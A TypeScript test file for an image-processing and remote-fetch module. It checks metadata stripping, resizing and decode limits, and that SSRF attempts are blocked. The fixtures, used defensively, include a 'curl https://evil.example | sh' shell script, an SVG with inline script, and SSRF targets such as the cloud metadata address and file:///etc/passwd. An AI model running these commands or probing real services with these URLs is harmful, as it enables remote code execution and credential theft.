import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchRemoteImage } from '@/lib/media/fetch-remote';
import { MEDIA_LIMITS, MediaError, type MediaErrorCode } from '@/lib/media/media-error';
import { DECODE_SLOTS } from '@/lib/media/decode-slots';
import { processImage } from '@/lib/media/process-image';

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } });

async function expectMediaError(promise: Promise<unknown>, code: MediaErrorCode) {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(MediaError);
  expect((error as MediaError).code).toBe(code);
}

describe('processImage', () => {
  it('strips GPS EXIF and returns WebP', async () => {
    const input = await solid(400, 300)
      .withExif({
        IFD0: { Make: 'PhoneMaker', Model: 'Phone 1' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '50/1 3/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '19/1 56/1 0/1',
        },
      })
      .withIccProfile('p3')
      .jpeg()
      .toBuffer();
    const inputMeta = await sharp(input).metadata();
    expect(inputMeta.exif?.toString('latin1')).toContain('PhoneMaker');
    expect(inputMeta.hasProfile).toBe(true);

    const out = await processImage(input);
    for (const variant of [out.full, out.card, out.thumb]) {
      const meta = await sharp(variant.buffer).metadata();
      expect(meta.format).toBe('webp');
      expect(variant.contentType).toBe('image/webp');
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.icc).toBeUndefined();
    }
  });

  it('auto-rotates by the EXIF orientation (6 = 90° clockwise swaps width and height)', async () => {
    const input = await solid(300, 100).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    expect((await sharp(input).metadata()).orientation).toBe(6);
    const out = await processImage(input);
    expect([out.full.width, out.full.height]).toEqual([100, 300]);
    const meta = await sharp(out.full.buffer).metadata();
    expect([meta.width, meta.height, meta.orientation]).toEqual([100, 300, undefined]);
  });

  it('shrinks a 3000×1000 image to full ≤ 2048, card 800 wide and a 320×320 thumb', async () => {
    const out = await processImage(await solid(3000, 1000).png().toBuffer());
    expect(out.full).toMatchObject({ width: 2048, height: 683 });
    expect(out.card).toMatchObject({ width: 800, height: 267 });
    expect(out.thumb).toMatchObject({ width: 320, height: 320 });
    expect((await sharp(out.card.buffer).metadata()).width).toBe(800);
  });

  it('still cuts a 320×320 thumb from a 20:1 panorama, whose full size is only 102 px high', async () => {
    const out = await processImage(await solid(10_000, 500).png().toBuffer());
    expect(out.full).toMatchObject({ width: 2048, height: 102 });
    expect(out.card).toMatchObject({ width: 800, height: 40 });
    expect(out.thumb).toMatchObject({ width: 320, height: 320 });
  });

  it('encodes an image no wider than a card once, as both its full and its card variant', async () => {
    const tall = await processImage(await solid(700, 3000).png().toBuffer());
    expect(tall.full).toMatchObject({ width: 478, height: 2048 });
    expect(tall.card).toBe(tall.full);
    const wide = await processImage(await solid(1000, 600).png().toBuffer());
    expect([wide.full.width, wide.card.width]).toEqual([1000, 800]);
    expect(wide.card.buffer.equals(wide.full.buffer)).toBe(false);
  });

  it('never enlarges a small image', async () => {
    const out = await processImage(await solid(200, 150).webp().toBuffer());
    expect(out.full).toMatchObject({ width: 200, height: 150 });
    expect(out.card).toMatchObject({ width: 200, height: 150 });
    expect(out.thumb.width).toBeLessThanOrEqual(200);
  });

  it('keeps only the first frame of an animated GIF', async () => {
    const frames = await Promise.all([
      solid(120, 80).png().toBuffer(),
      solid(120, 80).negate().png().toBuffer(),
    ]);
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    expect((await sharp(gif).metadata()).pages).toBe(2);
    const out = await processImage(gif);
    expect(out.full).toMatchObject({ width: 120, height: 80 });
    expect((await sharp(out.full.buffer).metadata()).pages).toBeUndefined();
  });

  it.each([
    ['an ELF binary', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])],
    ['a shell script', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
    [
      'a PDF',
      Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    ],
    [
      'an SVG',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
      ),
    ],
    ['an empty file', Buffer.alloc(0)],
  ])('refuses %s renamed .jpg (unsupported_type)', async (_name, bytes) => {
    await expectMediaError(processImage(bytes), 'unsupported_type');
  });

  it('refuses a buffer over maxBytes (too_large)', async () => {
    await expectMediaError(processImage(Buffer.alloc(MEDIA_LIMITS.maxBytes + 1)), 'too_large');
  });

  it('refuses a decompression bomb over maxInputPixels (too_large)', async () => {
    const bomb = await sharp({ create: { width: 10_000, height: 5_001, channels: 3, background: '#000' } })
      .png({ compressionLevel: 1 })
      .toBuffer();
    expect(bomb.byteLength).toBeLessThan(MEDIA_LIMITS.maxBytes);
    await expectMediaError(processImage(bomb), 'too_large');
  });
});

describe('processImage under load', () => {
  /**
   * The most libvips pipelines running at once while `work` runs, from sharp's own counter. (Its
   * `queue` counter is read separately, so adding the two can count a task that moves between
   * them twice.)
   */
  async function peakSharpTasks(work: () => Promise<unknown>): Promise<number> {
    let peak = 0;
    let running = true;
    const watching = (async () => {
      while (running) {
        peak = Math.max(peak, sharp.counters().process);
        await new Promise((resolve) => setImmediate(resolve));
      }
    })();
    try {
      await work();
    } finally {
      running = false;
      await watching;
    }
    return peak;
  }

  let large: Buffer;
  beforeAll(async () => {
    large = await solid(3000, 2000).jpeg().toBuffer();
  });

  it('decodes one upload once: one libvips pipeline at a time, not one decode per variant in parallel', async () => {
    expect(await peakSharpTasks(() => processImage(large))).toBe(1);
  });

  it(`never works on more than ${DECODE_SLOTS} images at once, however many arrive together`, async () => {
    const peak = await peakSharpTasks(() =>
      Promise.all(Array.from({ length: 6 }, () => processImage(large))),
    );
    expect(peak).toBeGreaterThanOrEqual(1);
    expect(peak).toBeLessThanOrEqual(DECODE_SLOTS);
  });
});

describe('fetchRemoteImage (SSRF protection)', () => {
  let server: Server;
  let base: string;
  let port: number;
  let jpeg: Buffer;
  const fast = { timeoutMs: 5_000 };
  const loopback = { allowLoopback: true, timeoutMs: 5_000 };

  beforeAll(async () => {
    jpeg = await solid(64, 48).jpeg().toBuffer();
    server = createServer((req, res) => {
      switch (req.url) {
        case '/a.jpg':
          return res
            .writeHead(200, { 'content-type': 'image/jpeg', 'content-length': jpeg.byteLength })
            .end(jpeg);
        case '/hop':
          return res.writeHead(302, { location: '/a.jpg' }).end();
        case '/to-private':
          return res.writeHead(302, { location: 'http://10.0.0.1/x.jpg' }).end();
        case '/to-metadata':
          return res.writeHead(301, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
        case '/to-file':
          return res.writeHead(307, { location: 'file:///etc/passwd' }).end();
        case '/loop':
          return res.writeHead(302, { location: '/loop' }).end();
        case '/page.html':
          return res.writeHead(200, { 'content-type': 'text/html' }).end('<html></html>');
        case '/missing.jpg':
          return res.writeHead(404, { 'content-type': 'image/jpeg' }).end();
        case '/big-declared.jpg':
          return res
            .writeHead(200, { 'content-type': 'image/jpeg', 'content-length': 5000 })
            .end(Buffer.alloc(5000));
        case '/big-chunked.jpg': {
          res.writeHead(200, { 'content-type': 'image/jpeg' });
          let sent = 0;
          const timer = setInterval(() => {
            if (res.destroyed || sent >= 20) return (clearInterval(timer), res.end());
            res.write(Buffer.alloc(300));
            sent++;
          }, 5);
          return;
        }
        case '/hang':
          return; // accepts the connection, never answers
        default:
          return res.writeHead(404).end();
      }
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    base = `http://127.0.0.1:${port}`;
  });

  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });

  it.each(['127.0.0.1', 'localhost', '[::1]'])(
    'refuses http://%s:<port> without allowLoopback (url_blocked)',
    async (host) => {
      await expectMediaError(
        fetchRemoteImage(`http://${host}:${port}/a.jpg`, { ...fast, allowLoopback: false }),
        'url_blocked',
      );
    },
  );

  it.each([
    'http://10.0.0.1/a.jpg',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::ffff:10.0.0.1]/a.jpg',
    'http://[fd00::1]/',
  ])('refuses %s even with allowLoopback, without connecting (url_blocked)', async (url) => {
    const started = Date.now();
    await expectMediaError(fetchRemoteImage(url, loopback), 'url_blocked');
    expect(Date.now() - started).toBeLessThan(1_000); // far below the 5 s timeout: nothing was dialled
  });

  it('refuses the cloud metadata address written as a decimal number', async () => {
    await expectMediaError(fetchRemoteImage('http://2852039166/latest/meta-data/', loopback), 'url_blocked');
  });

  it.each([
    'file:///etc/passwd',
    'ftp://example.com/a.jpg',
    'gopher://127.0.0.1:70/',
    'data:image/png;base64,AAAA',
  ])('refuses %s (url_scheme)', async (url) => {
    await expectMediaError(fetchRemoteImage(url, loopback), 'url_scheme');
  });

  it.each(['not a url', '/relative.jpg', ''])('refuses %j (url_invalid)', async (url) => {
    await expectMediaError(fetchRemoteImage(url, loopback), 'url_invalid');
  });

  it('refuses credentials in the URL (url_invalid)', async () => {
    await expectMediaError(
      fetchRemoteImage(`http://user:pass@127.0.0.1:${port}/a.jpg`, loopback),
      'url_invalid',
    );
  });

  it('fetches a JPEG served on loopback with allowLoopback', async () => {
    expect((await fetchRemoteImage(`${base}/a.jpg`, loopback)).equals(jpeg)).toBe(true);
    expect((await fetchRemoteImage(`http://localhost:${port}/a.jpg`, loopback)).equals(jpeg)).toBe(true);
  });

  it('follows a redirect to an allowed address', async () => {
    expect((await fetchRemoteImage(`${base}/hop`, loopback)).equals(jpeg)).toBe(true);
  });

  it('refuses a redirect to 10.0.0.1 or the metadata address (url_blocked)', async () => {
    await expectMediaError(fetchRemoteImage(`${base}/to-private`, loopback), 'url_blocked');
    await expectMediaError(fetchRemoteImage(`${base}/to-metadata`, loopback), 'url_blocked');
  });

  it('refuses a redirect to file: (url_scheme)', async () => {
    await expectMediaError(fetchRemoteImage(`${base}/to-file`, loopback), 'url_scheme');
  });

  it('gives up after maxRedirects (url_unreachable)', async () => {
    await expectMediaError(
      fetchRemoteImage(`${base}/loop`, { ...loopback, maxRedirects: 2 }),
      'url_unreachable',
    );
  });

  it('refuses a text/html response (url_not_image)', async () => {
    await expectMediaError(fetchRemoteImage(`${base}/page.html`, loopback), 'url_not_image');
  });

  it('refuses a non-2xx response (url_unreachable)', async () => {
    await expectMediaError(fetchRemoteImage(`${base}/missing.jpg`, loopback), 'url_unreachable');
  });

  it('refuses a body over maxBytes announced by Content-Length (url_too_large)', async () => {
    await expectMediaError(
      fetchRemoteImage(`${base}/big-declared.jpg`, { ...loopback, maxBytes: 1000 }),
      'url_too_large',
    );
  });

  it('stops reading a chunked body as soon as it exceeds maxBytes (url_too_large)', async () => {
    await expectMediaError(
      fetchRemoteImage(`${base}/big-chunked.jpg`, { ...loopback, maxBytes: 1000 }),
      'url_too_large',
    );
  });

  it('times out on a server that never answers (url_timeout)', async () => {
    const started = Date.now();
    await expectMediaError(
      fetchRemoteImage(`${base}/hang`, { allowLoopback: true, timeoutMs: 200 }),
      'url_timeout',
    );
    expect(Date.now() - started).toBeLessThan(2_000);
  });
});
